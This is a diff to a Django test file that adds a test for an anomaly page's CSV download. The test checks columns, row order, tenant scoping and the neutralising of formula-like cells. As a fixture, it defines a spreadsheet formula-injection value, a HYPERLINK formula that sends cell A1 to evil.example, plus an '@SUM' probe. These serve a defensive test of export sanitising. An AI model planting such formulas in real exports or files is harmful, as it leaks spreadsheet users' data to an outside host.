@@ -1,5 +1,8 @@
-"""Anomalies through the API and the pages: lists, one anomaly, feedback; another tenant's answers 404."""
+"""Anomalies through the API and the pages: lists, one anomaly, feedback, the page's CSV; another tenant's
+answers 404."""
 
+import csv
+import io
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -139,3 +142,58 @@ def test_job_is_on_the_beat_schedule_within_minutes_of_the_hour():
     assert entry["task"] == "budgets.tasks.detect_anomalies"
     assert min(entry["schedule"].minute) <= 5
     assert datetime(2026, 1, 1, tzinfo=UTC) + timedelta(minutes=3)  # the task itself is tested via the service
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
+
+
+def _csv_rows(response) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(response.content.decode("utf-8"))))
+
+
+def test_the_page_downloads_as_csv_of_its_rows_neutralised_and_scoped(tenant_a, spiking, operator):
+    anomaly_a, anomaly_b = spiking
+    cleared = Anomaly.objects.create(
+        tenant=tenant_a,
+        workflow=WorkflowFactory(slug="hostile-flow", name=HOSTILE_NAME),
+        kind=Anomaly.Kind.PROMPT_BLOAT,
+        metric="tokens_per_call",
+        status=Anomaly.Status.CLEARED,
+        opened_at=LAST - timedelta(hours=5),
+        last_hour=LAST - timedelta(hours=3),
+        cleared_at=LAST - timedelta(hours=2),
+        observed=4200.5,
+        expected=1500.0,
+        low=1000.0,
+        high=2000.0,
+        score=7.25,
+        feedback=Anomaly.Feedback.FALSE_ALARM,
+        feedback_note="@SUM(1+1) was a load test",
+        evidence={"unit": "tokens/call"},
+        created_at=NOW,
+    )
+    client = Client()
+    client.force_login(_member(tenant_a, Membership.Role.VIEWER))
+    assert "format=csv" in client.get("/anomalies/").content.decode()
+    response = client.get("/anomalies/?format=csv")
+    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
+    assert 'filename="anomalies-acme-' in response["Content-Disposition"]
+    rows = _csv_rows(response)
+    header, body = rows[0], rows[1:]
+    assert header[:6] == ["id", "status", "tenant", "workflow", "workflow_name", "kind"]
+    assert [r[0] for r in body] == [str(anomaly_a.pk), str(cleared.pk)]  # open first, then recently cleared
+    loop, bloat = (dict(zip(header, r, strict=True)) for r in body)
+    assert loop["status"] == "open" and loop["workflow"] == "support-bot" and loop["unit"] == "calls/h"
+    assert float(loop["observed"]) == 600 and loop["controls"] == "Require Approval (active)"
+    assert float(loop["band_high"]) < 600 and loop["cleared_at"] == ""
+    assert bloat["workflow_name"] == f"'{HOSTILE_NAME}" and bloat["feedback_note"] == "'@SUM(1+1) was a load test"
+    assert bloat["observed"] == "4200.5" and bloat["expected"] == "1500.0" and bloat["score"] == "7.25"
+    assert bloat["feedback"] == "False alarm" and bloat["controls"] == "none"
+    cells = [c for r in rows for c in r]
+    assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+    assert not any(MARKER_B in c for c in cells)  # tenant B's anomaly stays out
+
+    everyone = Client()
+    everyone.force_login(operator)
+    ids = {r[0] for r in _csv_rows(everyone.get("/anomalies/?format=csv"))[1:]}
+    assert ids == {str(anomaly_a.pk), str(anomaly_b.pk), str(cleared.pk)}
